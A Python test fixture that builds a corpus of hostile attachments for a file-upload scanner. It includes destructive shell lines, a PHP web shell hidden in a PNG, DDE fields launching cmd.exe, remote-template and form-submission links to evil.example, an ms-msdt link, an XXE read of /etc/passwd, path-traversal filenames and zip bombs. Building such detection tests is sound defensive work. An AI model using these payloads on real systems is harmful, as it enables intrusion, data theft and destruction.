"""Tricks: name and content. None of it may ever be stored as clean."""

import struct

from tests.attachments.corpus import archives, documents, pdfs, pictures
from tests.attachments.corpus.archives import MIB, zipped
from tests.attachments.corpus.documents import (
    HEAD,
    content_types,
    docx,
    docx_with,
    field,
    record,
    relation,
    relations,
    xlsx,
)

MZ = b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(200)
ZIP = zipped({"a.txt": b"text"})
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<html><body><script>alert(1)</script></body></html>"
JPEG = pictures.phone_jpeg()
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def _names() -> dict[str, bytes]:
    return {
        "程序.pdf": MZ,
        "程序.exe": MZ,
        "照片.jpg.exe": JPEG,
        "图片.pdf": JPEG,
        "文档.jpg": pdfs.pdf(),
        "文档.pdf": documents.real_docx(),
        "网页.doc": HTML,
        "网页.xls": b"\xef\xbb\xbf<table><tr><td>1</td></tr></table>",
        "富文本.doc": rb"{\rtf1\ansi{\object\objdata 0105}}",
        "矢量.svg": SVG,
        "矢量.png": SVG,
        "网页.txt": HTML,
        "宽网页.txt": HTML.decode().encode("utf-16"),
        "批处理.txt": b"@echo off\r\ndel /q *.*\r\n",
        "脚本.txt": b"#!/bin/sh\nrm -rf /\n",
        "脚本.js": b"new ActiveXObject('WScript.Shell')",
        "快捷方式.pdf": b"L\0\0\0\x01\x14\x02\0" + bytes(100),
        "精灵.zip": b"Rar!\x1a\x07\x01\0" + bytes(100),
        "ELF.txt": b"\x7fELF" + bytes(100),
        "二进制.txt": bytes(range(256)) * 4,
        "空.pdf": b"",
        "倒\u202efdp.exe": MZ,
        "报告\u202etxt.pdf": pdfs.pdf(),
        "../../etc/cron.d/任务.txt": b"text",
        "..\\..\\启动.txt": b"text",
        "截断.pdf\0.txt": b"text",
    }


def _two_in_one() -> dict[str, bytes]:
    return {
        "图里有包.jpg": JPEG + ZIP,
        "图里有程序包.png": pictures.picture("PNG") + zipped({"A.class": b"\xca\xfe\xba\xbe"}),
        "版式里有包.pdf": pdfs.pdf(tail=ZIP),
        "包前有版式.zip": pdfs.pdf() + ZIP,
        "包前有程序.zip": b"PK\3\4" + MZ + ZIP,
        "图里有网页.jpg": JPEG[:2]
        + b"\xff\xfe"
        + struct.pack(">H", len(HTML) + 2)
        + HTML
        + JPEG[2:],
        "图里有脚本.png": pictures.png(
            9, 9, pictures.chunk(b"tEXt", b"Comment\0<?php system($_GET[0]);")
        ),
        "位图里有脚本.bmp": pictures.picture("BMP") + b"<script>alert(1)</script>",
        "图后有数据.png": pictures.picture("PNG") + b"\x01\x02secret" * 50,
        "图里有版式.jpg": JPEG + pdfs.pdf(),
        "版式后有网页.pdf": pdfs.pdf(tail=HTML),
        "包后有数据.zip": ZIP + b"MZ" + bytes(range(1, 200)),
        "照片后有网页.heic": pictures.heic(100, 100, tail=HTML),
        "文本里有包.txt": b"hello\n" + ZIP,
    }


def _archives() -> dict[str, bytes]:
    inner = zipped({"b.txt": b"text"})
    return {
        "炸弹.zip": archives.bomb(256 * MIB),
        "谎报的炸弹.zip": archives.lying_bomb(256 * MIB),
        "比例.zip": archives.bomb(64 * MIB),
        "重叠.zip": archives.overlapping(),
        "太多.zip": zipped({f"{n}.txt": b"x" for n in range(2_001)}),
        "套娃.zip": zipped({"内层.zip": inner}),
        "改名套娃.zip": zipped({"内层.docx": inner}),
        "深套娃.docx": docx_with({"word/embeddings/a.docx": docx_with({"word/embeddings/b.docx": docx_with({"word/embeddings/c.docx": docx()})})}),
        "路径.zip": zipped({"../../a.txt": b"text"}),
        "绝对路径.zip": zipped({"/etc/a.txt": b"text"}),
        "盘符.zip": zipped({"C:/a.txt": b"text"}),
        "链接.zip": archives.symbolic_link(),
        "夹层.zip": archives.with_gap({"a.txt": b"text"}),
        "加密.zip": archives.encrypted_flag({"a.txt": b"text"}),
        "程序.zip": zipped({"安装.exe": MZ}),
        "双后缀.zip": zipped({"照片.jpg.js": b"alert(1)"}),
        "网页包.zip": zipped({"a.txt": HTML}),
        "大小写重名.zip": zipped({"a.txt": b"one", "A.TXT": b"two"}),
        "两个名字.zip": ZIP.replace(b"a.txt", b"b.txt", 1),
        "校验.zip": archives.one_entry(b"text", declared=4, crc=1, method=0),
        "方法.zip": archives.one_entry(b"text", declared=4, method=14),
        "程序包.zip": zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "a.txt": b"text"}),
        "炸弹.docx": docx_with({"word/media/a.bmp": bytes(210 * MIB)}),
        "精灵在内.zip": zipped({"a.rar": b"Rar!\x1a\x07\0" + bytes(50)}),
    }  # fmt: skip


def _office() -> dict[str, bytes]:
    return _macros() | _dde() | _reaching_out() | _embedded()


def _macros() -> dict[str, bytes]:
    vba = {"VBA": {"dir": b"x", "Module1": b"Attribute"}}
    macros = content_types(documents.WORD_MACROS, "word/document.xml")
    return {
        "宏.docm": docx(main=documents.WORD_MACROS),
        "宏改名.docx": docx_with({"[Content_Types].xml": macros}),
        "宏部件.docx": docx_with({"word/vbaProject.bin": documents.compound({}, vba)}),
        "宏改名部件.xlsx": xlsx(parts={"xl/vbaProject2.bin": b"x"}),
        "四点零宏.xlsx": xlsx(parts={"xl/macrosheets/sheet1.xml": f"{HEAD}<x/>"}),
        "旧宏.doc": documents.doc(storages={"Macros": {"PROJECT": b"x"}}),
        "旧宏.xls": documents.xls(storages={"_VBA_PROJECT_CUR": {"PROJECT": b"x"}}),
        "旧宏表.xls": documents.xls(record(0x85, bytes(4) + b"\x01\x01\x06\0Macro1")),
        "宏在内.ofd": documents.ofd({"Doc_0/Attachs/a.docx": docx_with({"word/vbaProject.bin": b"x"})}),
        "宏在内.zip": zipped({"a.docx": docx_with({"word/vbaProject.bin": b"x"})}),
    }  # fmt: skip


def _dde() -> dict[str, bytes]:
    return {
        "DDE.docx": docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        "拆开的DDE.docx": docx(field(" D", "DE", "AUTO ", 'cmd "/k calc"')),
        "简单域DDE.docx": docx('<w:p><w:fldSimple w:instr=\'DDE "excel" "x"\'/></w:p>'),
        "编码的DDE.docx": docx(field(" QUOTE 68 68 69 65 85 84 79 ")),
        "前缀不同的DDE.docx": docx_with({"word/document.xml": documents.word_xml(field(" DDEAUTO cmd ")).replace("w:", "z:").replace(":w=", ":z=")}),
        "宽字符DDE.docx": docx_with({"word/document.xml": documents.word_xml(field(" DDEAUTO cmd ")).replace("UTF-8", "UTF-16").encode("utf-16")}),
        "DDE.xlsx": xlsx("<row><c><f>cmd|'/c calc'!A0</f></c></row>"),
        "DDE链接.xlsx": xlsx(parts={"xl/externalLinks/externalLink1.xml": f'{HEAD}<externalLink xmlns="{documents.S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}),
        "旧DDE.doc": documents.doc(text=b"\x13 DDEAUTO cmd \x14"),
        "旧宽DDE.doc": documents.doc(text="\x13 DDEAUTO cmd \x14".encode("utf-16-le")),
        "旧DDE.xls": documents.xls(record(0x1AE, struct.pack("<HH", 1, 9) + b"\0cmd\x03/c calc")),
    }  # fmt: skip


def _reaching_out() -> dict[str, bytes]:
    """What fetches something from elsewhere, or reads what is here."""
    remote = "https://evil.example/t.dotm"
    return {
        "远程模板.docx": docx(settings_links=(relation("attachedTemplate", remote, external=True),)),
        "远程模板转义.docx": docx(settings_links=(relation("attachedTemplate", "&#104;ttps://evil.example/t", external=True),)),
        "内网模板.docx": docx(settings_links=(relation("attachedTemplate", "\\\\10.0.0.1\\s\\t.dotm", external=True),)),
        "远程框架.docx": docx(links=(relation("frame", remote, external=True),)),
        "远程对象.docx": docx(links=(relation("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example", external=True),)),
        "远程图片.docx": docx(links=(relation("image", "http://evil.example/pixel.png", external=True),)),
        "脚本链接.docx": docx(links=(relation("hyperlink", "ms-msdt:/id PCWDiagnostic", external=True),)),
        "远程图片域.docx": docx(field(' INCLUDEPICTURE "http://evil.example/p" \\d ')),
        "夹网页.docx": docx_with({"word/afchunk.mht": b"MIME-Version: 1.0"}),
        "实体.docx": docx(prefix='<!DOCTYPE x [<!ENTITY a "aaaa">]>'),
        "外部实体.xlsx": xlsx(parts={"xl/sharedStrings.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
        "关系里有实体.docx": docx_with({"word/_rels/document.xml.rels": "<!DOCTYPE x>" + relations()}),
    }  # fmt: skip


def _embedded() -> dict[str, bytes]:
    """Programs and controls within, what hides its content, and what is no such document."""
    return {
        "控件.docx": docx_with({"word/activeX/activeX1.bin": b"x"}),
        "嵌程序.docx": docx_with({"word/embeddings/oleObject1.bin": documents.compound({"\x01Ole10Native": MZ})}),
        "嵌程序.doc": documents.doc(storages={"ObjectPool": {"\x01Ole10Native": MZ}}),
        "裸程序.docx": docx_with({"word/media/image1.png": MZ}),
        "公式对象.doc": documents.doc(storages={"ObjectPool": {"Equation Native": b"x"}}),
        "加密.docx": documents.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        "加密.doc": documents.doc(flags=0x0100),
        "加密.xls": documents.xls(record(0x2F, bytes(6))),
        "邮件.doc": documents.compound({"__properties_version1.0": b"x"}),
        "演示.docx": zipped({"[Content_Types].xml": content_types("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "ppt/p.xml"), "ppt/p.xml": "<x/>"}),
        "损坏.docx": documents.real_docx()[:-40],
        "程序.ofd": documents.ofd({"Doc_0/Attachs/a.exe": MZ}),
        "脚本.ofd": documents.ofd({"Doc_0/Attachs/a.js": b"alert(1)"}),
    }  # fmt: skip


def _pdfs() -> dict[str, bytes]:
    return {
        "脚本.pdf": pdfs.pdf(JS, catalog=b"/OpenAction 4 0 R"),
        "转义的脚本.pdf": pdfs.pdf(JS.replace(b"JavaScript", b"J#61v#61Script").replace(b"/JS ", b"/J#53 ")),
        "压缩的脚本.pdf": pdfs.written(compressed=True, script=True),
        "页面动作.pdf": pdfs.pdf(JS, catalog=b"/AA << /WC 4 0 R >>"),
        "启动.pdf": pdfs.pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"),
        "夹带.pdf": pdfs.pdf(pdfs.stream(b"/Type /EmbeddedFile", MZ), catalog=b"/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>"),
        "打开即上网.pdf": pdfs.pdf(b"<< /S /URI /URI (http://evil.example/) >>", catalog=b"/OpenAction 4 0 R"),
        "提交表单.pdf": pdfs.pdf(b"<< /S /SubmitForm /F (http://evil.example/) >>"),
        "另一版式.pdf": pdfs.pdf(b"<< /S /GoToE /D [0 /Fit] >>"),
        "富媒体.pdf": pdfs.pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
        "动态表单.pdf": pdfs.pdf(catalog=b"/AcroForm << /XFA [] >>"),
        "加密.pdf": pdfs.written(password="secret"),
        "对象流炸弹.pdf": pdfs.pdf(pdfs.stream(b"/Type /ObjStm /N 1 /First 4", bytes(40 * MIB))),
        "看不清的对象流.pdf": pdfs.pdf(pdfs.stream(b"/Type /ObjStm /N 1 /First 4", b"1 0 x").replace(b"FlateDecode", b"LZWDecode")),
    }  # fmt: skip


def _pictures() -> dict[str, bytes]:
    return {
        "五千万像素.png": pictures.png(10_000, 5_000),
        "亿像素.jpg": pictures.jpeg_header(12_000, 9_000),
        "巨图.png": pictures.png(60_000, 60_000),
        "巨图.heic": pictures.heic(20_000, 20_000),
        "巨图.tif": pictures.tiff(30_000, 30_000),
        "巨图.webp": b"RIFF" + struct.pack("<L", 22) + b"WEBPVP8X" + struct.pack("<L", 10) + bytes(4) + b"\xff\xff\0\xff\xff\0",
        "巨图.bmp": b"BM" + struct.pack("<LLL", 54, 0, 54) + struct.pack("<Lll", 40, 20_000, 20_000) + bytes(28),
        "断图.png": pictures.picture("PNG")[:-20],
        "断图.jpg": JPEG[:300],
        "零宽.png": pictures.png(0, 100),
    }  # fmt: skip


HOSTILE: dict[str, bytes] = {
    **_names(), **_two_in_one(), **_archives(), **_office(), **_pdfs(), **_pictures(),
}  # fmt: skip
